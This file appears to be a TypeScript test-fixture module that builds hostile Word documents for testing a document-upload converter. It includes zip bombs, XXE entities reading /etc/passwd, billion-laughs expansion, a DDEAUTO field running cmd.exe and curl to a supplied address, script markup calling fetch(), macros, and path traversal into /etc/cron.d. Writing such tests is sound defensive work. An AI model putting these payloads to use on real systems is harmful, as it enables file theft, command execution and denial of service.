import { drawing, paragraph, relationship, wordDocument, wordParts } from './word-document.ts';
import { packedSpaces, zipFile } from './zip-file.ts';

/** A hostile document, and a word of the message to the applicant. `undefined` where it is converted without its harm. */
export interface HostileDocx {
  name: string;
  bytes: Buffer;
  told: RegExp | undefined;
}

const plain = paragraph('Kept words');
const part = (name: string, text: string | Buffer): { name: string; bytes: Buffer } => ({
  name,
  bytes: Buffer.from(text),
});
const nested = (inner: string, times: number, open: string, close: string): string =>
  open.repeat(times) + inner + close.repeat(times);
const field = (instruction: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Kept words</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

/** Small files that grow, or are many. */
export function bombs(): HostileDocx[] {
  const sixtyfold = packedSpaces(60);
  const usual = wordParts({ body: plain });
  const filler = (count: number): { name: string }[] =>
    Array.from({ length: count }, (_, at) => ({ name: at.toString(36) }));
  const told = /far larger inside/;
  return [
    {
      name: 'a gigabyte in one entry',
      bytes: zipFile([...usual, { name: 'word/media/a.png', packed: sixtyfold, declaredSize: 60 * 16 * 1024 ** 2 }]),
      told,
    },
    {
      name: 'ten gigabytes in overlapping entries',
      told,
      bytes: zipFile([
        ...usual,
        { name: 'word/media/a.png', packed: sixtyfold, declaredSize: 60 * 16 * 1024 ** 2 },
        ...Array.from({ length: 10 }, (_, at) => ({
          name: `word/media/b${at}.png`,
          packed: sixtyfold,
          declaredSize: 60 * 16 * 1024 ** 2,
          sharesWith: 4,
        })),
      ]),
    },
    {
      name: 'entries that overlap, small as they are',
      told: /Word itself does not write/,
      bytes: zipFile([
        ...usual,
        { name: 'word/media/a.png', bytes: Buffer.alloc(99) },
        { name: 'word/media/b.png', bytes: Buffer.alloc(99), sharesWith: 4 },
      ]),
    },
    {
      name: 'a gigabyte that claims to be small',
      bytes: zipFile([...usual, { name: 'word/media/a.png', packed: sixtyfold, declaredSize: 1_000 }]),
      told: /damaged/,
    },
    { name: 'a million entries by its word', bytes: zipFile(usual, { declaredCount: 1_000_000 }), told },
    { name: 'ten thousand entries', bytes: zipFile([...usual, ...filler(10_000)]), told },
    {
      name: 'ten thousand entries that claim to be five',
      bytes: zipFile([...usual, ...filler(10_000)], { declaredCount: 5 }),
      told: undefined,
    },
  ];
}

/** Broken, locked, or nothing of the kind. */
export function broken(): HostileDocx[] {
  const good = wordDocument({ body: plain });
  const compound = (text: string): Buffer =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1_000), Buffer.from(text, 'utf16le')]);
  return [
    { name: 'an encrypted document', bytes: compound('EncryptedPackage'), told: /locked with a password/ },
    { name: 'a .doc under another name', bytes: compound('WordDocument'), told: /old version of Office/ },
    {
      name: 'an encrypted entry',
      bytes: zipFile([...wordParts({ body: plain }), { name: 'word/media/a.png', flags: 1 }]),
      told: /locked with a password/,
    },
    {
      name: 'plain text',
      bytes: Buffer.from('Dear college,\nthis is plain text.\n'),
      told: /could not be opened as a Word document/,
    },
    { name: 'a truncated document', bytes: good.subarray(0, good.length - 200), told: /damaged/ },
    {
      name: 'a document with a wrong sum',
      bytes: Buffer.from(good.toString('latin1').replace(/(word\/document\.xml[^]{20})[^]{8}/, '$1########'), 'latin1'),
      told: /damaged/,
    },
    {
      name: 'an archive of something else',
      bytes: zipFile([
        part('[Content_Types].xml', '<Types/>'),
        part('_rels/.rels', '<Relationships/>'),
        part('xl/workbook.xml', '<workbook/>'),
      ]),
      told: /not a Word document/,
    },
    { name: 'an archive', bytes: zipFile([part('letter.txt', 'Dear college')]), told: /not a Word document/ },
    { name: 'no paragraph', bytes: wordDocument({ body: '' }), told: /no text and no pictures/ },
    { name: 'empty paragraphs', bytes: wordDocument({ body: '<w:p/><w:p/>' }), told: /no text and no pictures/ },
    { name: 'what is no XML', bytes: wordDocument({ body: '<w:p><w:r><w:t>Unclosed' }), told: /could not be read/ },
  ];
}

/**
 * Documents that reach out, start something, or lead elsewhere; `at` is an address that must not be asked: F17, F18,
 * R46.
 */
export function reaching(at: string): HostileDocx[] {
  const linked = (type: string, id = 'rId7'): string => relationship(id, type, `${at}/${type}`, true);
  const entity = (text: string): Pick<HostileDocx, 'bytes' | 'told'> => ({
    told: /Word itself does not write/,
    bytes: wordDocument({ prolog: text, body: paragraph('&x;') }),
  });
  const macro = [part('word/vbaProject.bin', 'd0cf11e0')];
  return [
    { name: 'XXE', ...entity(`<!DOCTYPE w:document [<!ENTITY x SYSTEM "${at}/xxe">]>`) },
    { name: 'XXE of a file', ...entity('<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>') },
    {
      name: 'billion laughs',
      ...entity(
        `<!DOCTYPE w:document [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, level) => `<!ENTITY ${'bcdefghix'[level]} "${`&${'abcdefghi'[level]};`.repeat(10)}">`).join('')}]>`,
      ),
    },
    {
      name: 'a DOCTYPE in UTF-16',
      told: /Word itself does not write/,
      bytes: wordDocument({
        body: plain,
        parts: [
          { name: 'word/styles.xml', bytes: Buffer.from(`\ufeff<!DOCTYPE x SYSTEM "${at}/dtd"><x/>`, 'utf16le') },
        ],
      }),
    },
    {
      name: 'a linked picture',
      bytes: wordDocument({ body: plain + drawing('r:link="rId7"'), relationships: linked('image') }),
      told: /pictures that are not in it/,
    },
    {
      name: 'a picture inserted and linked',
      bytes: wordDocument({
        body: plain + drawing('r:embed="rId8" r:link="rId7"'),
        relationships: linked('image') + relationship('rId8', 'image', 'media/a.png'),
        parts: [part('word/media/a.png', 'x')],
      }),
      told: undefined,
    },
    {
      name: 'a linked picture in the old way',
      bytes: wordDocument({
        body: `${plain}<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rId7" src="${at}/vml" o:href="${at}/href"/></v:shape></w:pict></w:r></w:p>`,
        relationships: linked('image'),
      }),
      told: undefined,
    },
    {
      name: 'a linked template',
      bytes: wordDocument({
        body: plain,
        parts: [
          part(
            'word/settings.xml',
            '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId7"/></w:settings>',
          ),
          part(
            'word/_rels/settings.xml.rels',
            `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${linked('attachedTemplate')}</Relationships>`,
          ),
        ],
        relationships: relationship('rId3', 'settings', 'settings.xml'),
      }),
      told: undefined,
    },
    {
      name: 'an imported page',
      bytes: wordDocument({ body: `${plain}<w:altChunk r:id="rId7"/>`, relationships: linked('aFChunk') }),
      told: undefined,
    },
    {
      name: 'DDE',
      bytes: wordDocument({ body: field(`DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k curl ${at}/dde"`) }),
      told: undefined,
    },
    {
      name: 'a field that includes',
      bytes: wordDocument({
        body:
          field(`INCLUDEPICTURE "${at}/field" \\d`) +
          `<w:p><w:fldSimple w:instr='INCLUDETEXT "${at}/simple"'><w:r><w:t>more</w:t></w:r></w:fldSimple></w:p>`,
      }),
      told: undefined,
    },
    {
      name: 'an OLE object',
      bytes: wordDocument({
        body: `${plain}<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Package" r:id="rId7"/></w:object></w:r></w:p>`,
        relationships: linked('oleObject') + relationship('rId8', 'oleObject', 'embeddings/oleObject1.bin'),
        parts: [part('word/embeddings/oleObject1.bin', 'd0cf11e0')],
      }),
      told: undefined,
    },
    {
      name: 'macros',
      bytes: wordDocument({
        body: plain,
        parts: macro,
        mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
        relationships: relationship('rId9', 'vbaProject', 'vbaProject.bin'),
      }),
      told: undefined,
    },
    {
      name: 'archives within archives',
      bytes: wordDocument({
        body: plain,
        parts: [
          part(
            'word/embeddings/inner.docx',
            wordDocument({ body: plain, parts: [part('word/embeddings/inner.zip', zipFile([part('a', 'b')]))] }),
          ),
        ],
      }),
      told: undefined,
    },
    {
      name: 'a link that would run',
      bytes: wordDocument({
        body: `<w:p><w:hyperlink r:id="rId7"><w:r><w:t>Kept words</w:t></w:r></w:hyperlink></w:p>`,
        relationships: relationship('rId7', 'hyperlink', 'javascript:alert(1)', true),
      }),
      told: undefined,
    },
    {
      name: 'markup in the words',
      bytes: wordDocument({
        body: paragraph(`Kept words &lt;img src="${at}/words"&gt;&lt;script&gt;fetch("${at}/script")&lt;/script&gt;`),
      }),
      told: undefined,
    },
    {
      name: 'a path that leads out',
      bytes: zipFile([...wordParts({ body: plain }), part('../../etc/cron.d/quire', 'x')]),
      told: /damaged/,
    },
    {
      name: 'an absolute path',
      bytes: zipFile([...wordParts({ body: plain }), part('/etc/cron.d/quire', 'x')]),
      told: /damaged/,
    },
    {
      name: 'two parts of one name',
      bytes: zipFile([...wordParts({ body: plain }), part('word/Document.xml', '<x/>')]),
      told: /Word itself does not write/,
    },
  ];
}

/** Within the limits of files, and too much all the same. */
export function excessive(): HostileDocx[] {
  const [open, close] = ['<w:tbl><w:tr><w:tc>', '<w:p/></w:tc></w:tr></w:tbl>'];
  return [
    {
      name: 'tables in tables, a thousand deep',
      bytes: wordDocument({ body: nested(plain, 1_000, open, close) }),
      told: /nested too deeply/,
    },
    {
      name: 'fourteen thousand rows',
      bytes: wordDocument({
        body: `<w:tbl>${Array.from({ length: 14_000 }, (_, at) => `<w:tr><w:tc>${paragraph(String(at))}</w:tc></w:tr>`).join('')}</w:tbl>`,
      }),
      told: /more than 100 pages/,
    },
    {
      name: 'thirteen thousand paragraphs',
      bytes: wordDocument({ body: Array.from({ length: 13_000 }, (_, at) => paragraph(String(at))).join('') }),
      told: /more than 100 pages/,
    },
    { name: 'a hundred thousand paragraphs', bytes: wordDocument({ body: plain.repeat(100_000) }), told: /too long/ },
    {
      name: 'a million elements',
      bytes: wordDocument({ body: plain + '<w:p/>'.repeat(1_000_000) }),
      told: /far larger inside/,
    },
  ];
}
